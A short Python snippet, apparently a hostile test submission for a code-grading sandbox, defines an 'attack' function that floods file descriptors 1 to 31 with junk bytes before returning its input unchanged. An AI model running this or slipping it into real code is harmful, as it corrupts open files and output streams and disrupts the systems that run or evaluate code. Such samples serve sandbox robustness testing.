# Fills every descriptor with bytes.
import os


def attack(n):
    for number in range(1, 32):
        try:
            os.set_blocking(number, False)
            while True:
                os.write(number, b"x" * 65536)
        except OSError:
            pass
    return n
